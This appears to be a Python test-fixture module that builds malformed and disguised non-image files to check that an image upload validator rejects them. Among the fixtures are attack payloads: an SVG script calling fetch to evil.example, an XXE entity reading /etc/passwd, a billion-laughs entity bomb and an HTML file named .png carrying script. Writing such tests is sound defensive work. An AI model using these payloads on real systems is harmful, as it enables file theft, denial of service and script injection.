"""Files that are no image, or not of the six formats, whatever their name says."""

import gzip
import io
import struct
import zipfile

from . import CORRUPT, EMPTY, MIB, TOO_LARGE, UNSUPPORTED, catalogue, encoded, noise, picture

specimen = catalogue(None)


@specimen("empty.jpg", "zero bytes", EMPTY)
def empty():
    return b""


@specimen("one-byte.jpg", "one byte", UNSUPPORTED)
def one_byte():
    return b"\xff"


for _format, _magic in {
    "jpg": b"\xff\xd8\xff",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\0\0\0\0WEBP",
    "gif": b"GIF89a",
    "bmp": b"BM" + bytes(12) + b"\x28\0\0\0",
    "tiff": b"II*\0\x08\0\0\0",
}.items():
    specimen(f"magic.{_format}", "the first bytes and no more", CORRUPT)(lambda magic=_magic: magic)
    specimen(f"magic-and-noise.{_format}", "the first bytes, then noise", CORRUPT, TOO_LARGE, UNSUPPORTED)(
        lambda magic=_magic: magic + noise(4096))


@specimen("noise.bin", "noise", UNSUPPORTED)
def plain_noise():
    return noise(4096)


@specimen("zeros.jpg", "a megabyte of zeros", UNSUPPORTED)
def zeros():
    return bytes(MIB)


@specimen("all-ones.jpg", "a megabyte of 0xFF", UNSUPPORTED)
def all_ones():
    return b"\xff" * MIB


@specimen("script.svg", "an SVG with a script", UNSUPPORTED)
def script():
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example")</script></svg>'


@specimen("xxe.svg", "an SVG that wants to read a file of the server's", UNSUPPORTED)
def xxe():
    return b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>'


@specimen("entities.svg", "an SVG whose entities grow to gigabytes", UNSUPPORTED)
def entities():
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY l0 "ha">{laughs}]><svg><text>&l9;</text></svg>'.encode()


@specimen("page.png", "HTML named .png", UNSUPPORTED)
def page():
    return b"<!DOCTYPE html><script>alert(document.domain)</script>"


@specimen("utf-16.jpg", "text in UTF-16", UNSUPPORTED)
def utf_16():
    return "\ufeffA photo, in words.".encode("utf-16-le")


@specimen("photo.png.gz", "a PNG, gzipped", UNSUPPORTED)
def gzipped():
    return gzip.compress(encoded(picture(), "PNG"), mtime=0)


@specimen("photo.zip", "a PNG in a ZIP archive", UNSUPPORTED)
def zipped():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("photo.png"), encoded(picture(), "PNG"))
    return buffer.getvalue()


@specimen("photo.pdf", "a PDF that holds a JPEG", UNSUPPORTED)
def pdf():
    photo = encoded(picture(), "JPEG")
    return b"%PDF-1.7\n1 0 obj\n<</Filter/DCTDecode>>\nstream\n" + photo + b"\nendstream\nendobj\n"


@specimen("icon.ico", "a Windows icon that holds a PNG", UNSUPPORTED)
def icon():
    return encoded(picture(), "ICO")


@specimen("cursor.cur", "a Windows cursor", UNSUPPORTED)
def cursor():
    return b"\0\0\2" + encoded(picture(), "ICO")[3:]


@specimen("layers.psd", "a Photoshop file of 30,000²", UNSUPPORTED)
def photoshop():
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 30_000, 30_000, 8, 3) + bytes(12)


def iso_media(*brands):
    kinds = b"".join(brands)
    return struct.pack(">I", 12 + len(kinds)) + b"ftyp" + kinds[:4] + bytes(4) + kinds[4:] + noise(999)


@specimen("photo.heic", "HEIC", UNSUPPORTED)
def heic():
    return iso_media(b"heic", b"mif1", b"heic")


@specimen("photo.avif", "AVIF", UNSUPPORTED)
def avif():
    return iso_media(b"avif", b"mif1", b"avif")


@specimen("no-brands.avif", "an ISO media file that claims 4 GB of brands", UNSUPPORTED)
def countless_brands():
    return b"\xff\xff\xff\xffftyp" + noise(999)


@specimen("photo.jxl", "JPEG XL", UNSUPPORTED)
def jpeg_xl():
    return b"\xff\x0a" + noise(999)


@specimen("photo.jp2", "JPEG 2000", UNSUPPORTED)
def jpeg_2000():
    return encoded(picture(), "JPEG2000")


@specimen("anything.webp", "a RIFF file that is a sound", UNSUPPORTED)
def sound():
    return b"RIFF" + struct.pack("<I", 99) + b"WAVEfmt " + noise(91)


@specimen("prefixed.jpg", "a space before the JPEG", UNSUPPORTED)
def prefixed():
    return b" " + encoded(picture(), "JPEG")


@specimen("26-mib.jpg", "26 MiB, more than is accepted", TOO_LARGE)
def too_many_bytes():
    return encoded(picture(), "JPEG").ljust(26 * MIB, b"\0")
